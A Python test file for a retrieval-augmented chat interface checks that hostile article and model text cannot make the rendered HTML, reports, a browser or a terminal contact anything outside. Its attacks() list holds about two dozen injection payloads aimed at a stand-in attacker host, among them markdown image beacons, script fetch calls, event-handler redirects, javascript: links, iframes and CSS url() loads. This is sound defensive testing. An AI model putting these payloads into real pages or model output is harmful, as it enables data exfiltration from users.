"""Hostile text in every place that an article or a model can fill: no request leaves, and no element comes in.

A server on loopback stands for the attacker; the browser may reach it, and it must never be asked for anything.
"""

import http.server
import threading
from collections.abc import Iterator
from dataclasses import replace
from html.parser import HTMLParser
from urllib.parse import urlsplit

import httpx
import pytest

from rag.answer import Answer
from rag.report import page_html, summary_html
from rag.scorecard import Scorecard
from tests.rag.test_report import evaluated
from tests.ui.browsing import OpenPage
from tests.ui.scripted import ScriptedBot, article, citation, hit
from ui import render, render_panel
from ui.records import from_record, to_record
from ui.render_sources import sources
from ui.terminal import plain
from ui.turns import Turn

SAFE_TAGS = {"a", "blockquote", "br", "button", "code", "details", "div", "em", "h1", "h2", "h3", "h4", "li", "mark"}
SAFE_TAGS |= {"ol", "p", "q", "span", "strong", "sub", "summary", "sup", "ul", "cite", "dl", "dt", "dd", "hr", "small"}
SAFE_TAGS |= {"b", "i", "pre", "section", "nav", "label", "header", "footer", "article", "aside", "time", "caption"}
SAFE_TAGS |= {"table", "thead", "tbody", "tr", "th", "td"}
REMOTE = {"src", "srcset", "href", "style", "action", "formaction", "poster", "data", "background", "ping"}


def attacks(host: str) -> list[str]:
    return [
        f"![a](http://{host}/1)",
        f"![a][r]\n\n[r]: http://{host}/2 'x'",
        f"<http://{host}/3>",
        f"http://{host}/4",
        f"<img src=http://{host}/5 srcset=http://{host}/5b>",
        f"&lt;img src=http://{host}/6&gt;",
        f"&#60;img src=http://{host}/7&#62;",
        f"＜img src=http://{host}/8＞",
        f"<style>@import 'http://{host}/9'</style><link rel=stylesheet href=http://{host}/10>",
        f"<p style='background:url(http://{host}/11)'>x</p>",
        f"<form action=http://{host}/12><button>x</button></form>",
        f"<script src=http://{host}/13></script><script>fetch('http://{host}/14')</script>",
        f"<svg><image href=http://{host}/15 /></svg><math href=http://{host}/16>",
        f"<iframe src=http://{host}/17></iframe><object data=http://{host}/18></object><embed src=http://{host}/19>",
        f"<meta http-equiv=refresh content='0;url=http://{host}/20'><base href=http://{host}/>",
        f"<video poster=http://{host}/21 src=http://{host}/22></video><audio src=http://{host}/23>",
        f'" onmouseover="location=\'http://{host}/24\'" x="',
        f"[x](javascript:fetch('http://{host}/25'))",
        f"```html\n<img src=http://{host}/26>\n```",
        f"$$\\includegraphics{{http://{host}/27}}$$",
        f"<im\u200bg src=http://{host}/28>",
        f"<details open ontoggle=fetch('http://{host}/29')>",
        f"![a]\n(http://{host}/30) [![a](http://{host}/31)](http://{host}/32)",
    ]


class Walk(HTMLParser):
    """What a piece of HTML holds that could ask for something or run."""

    def __init__(self, html: str, allowed: set[str]) -> None:
        super().__init__()
        self.wrong: list[str] = []
        self._allowed = allowed
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in self._allowed:
            self.wrong.append(f"<{tag}>")
        for name, value in attrs:
            local = name == "href" and (value or "").startswith("#")
            if name.startswith("on") or (name in REMOTE and not local and "://" in (value or "").casefold()):
                self.wrong.append(f"<{tag} {name}={value!r}>")
            if name == "href" and not local:
                self.wrong.append(f"<{tag} href={value!r}>")


def answered(attack: str) -> Answer:
    poisoned = article("x", attack.replace("\n", " "), f"line one\n{attack}\nline three", "en", source=attack)
    return Answer(
        question=attack,
        text=f"{attack} [1]",
        language="en",
        answered=True,
        citations=(citation(1, poisoned, attack),),
        hits=(hit(poisoned, "line one"),),
        warnings=(attack,),
        standalone=attack,
    )


@pytest.mark.parametrize("attack", attacks("evil.example"))
def test_nothing_that_asks_for_something_is_in_any_html(attack: str) -> None:
    answer = answered(attack)
    done = Turn(number=1, question=attack, model_name=attack, stage="done", answer=answer, hits=answer.hits)
    back = from_record(to_record(done))  # from a browser's own store
    pieces = [render.question(done), render.answer(done), sources(done, to_record(done))]
    pieces += [render.question(back), render.answer(back), sources(back)]
    pieces += [
        render.answer(replace(done, stage="writing", answer=None, written=attack[:cut])) for cut in range(len(attack))
    ]
    pieces += [render_panel.article(answer.hits[0].article), answer._repr_html_()]
    for html in pieces:
        assert Walk(html, SAFE_TAGS).wrong == []


@pytest.mark.parametrize("attack", attacks("evil.example")[::4])
def test_nothing_that_asks_for_something_is_in_a_report(attack: str) -> None:
    card = evaluated(text={"q1": attack}, fails={"q2"})
    card = Scorecard(rows=card.rows, configuration={"gold": attack, "chat_model": attack}, notes=(attack,))
    drawn = {
        "html",
        "head",
        "meta",
        "title",
        "body",
        "style",
        "svg",
        "g",
        "rect",
        "line",
        "path",
        "circle",
        "text",
        "table",
    }
    drawn |= {"thead", "tbody", "tr", "th", "td", "input", "label", "polyline", "polygon", "defs", "caption", "figure"}
    drawn |= {"figcaption", "fieldset", "legend", "main", "form"}
    for html in (page_html(card), summary_html(card)):
        assert Walk(html, SAFE_TAGS | drawn).wrong == []
        assert "<img" not in html
        assert "<script" not in html


@pytest.fixture
def attacker() -> Iterator[tuple[str, list[str]]]:
    """An address on loopback, and all that was ever asked of it."""
    asked: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(200)
            self.end_headers()

        do_POST = do_HEAD = do_OPTIONS = do_GET  # noqa: N815

        def log_message(self, *_: object) -> None:
            pass

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"127.0.0.1:{server.server_port}", asked
        server.shutdown()


def test_a_browser_that_shows_all_of_it_asks_nothing_of_anybody(
    open_page: OpenPage, attacker: tuple[str, list[str]]
) -> None:
    host, asked = attacker
    everything = "\n\n".join(attacks(host))
    bot = ScriptedBot(pause=0.001, answers={"q": replace(answered(everything), question="q")})
    watched = open_page(bot)
    # The attacker's server can be reached: that it hears nothing is the page's doing.
    assert httpx.get(f"http://{host}/reachable").status_code == 200
    watched.ask("q")
    watched.page.wait_for_selector(".k-answer.k-done", timeout=60_000)
    watched.page.mouse.move(400, 400)
    watched.page.wait_for_timeout(300)
    assert asked == ["/reachable"]
    assert watched.foreign == []
    shown = watched.page.locator(".k-text").last
    assert f"http://{host}/1" in shown.inner_text()
    own = urlsplit(watched.url).netloc
    remote = watched.page.evaluate(
        "() => [...document.querySelectorAll('[src],[href],[action],[style]')].flatMap(e =>"
        " [e.src, e.href && e.href.baseVal || e.href, e.action, e.getAttribute('style')]).filter(Boolean).map(String)"
    )
    assert [one for one in remote if host in one and own not in one] == []


def test_a_terminal_shows_none_of_it_as_more_than_text() -> None:
    text = "\x1b]8;;http://evil.example\x07link\x1b]8;;\x07 \x9b31m \u202etxt.exe \x00\x08\r" + "".join(
        map(chr, range(0x80, 0xA0))
    )
    assert plain(text) == "]8;;http://evil.examplelink]8;; 31m txt.exe "
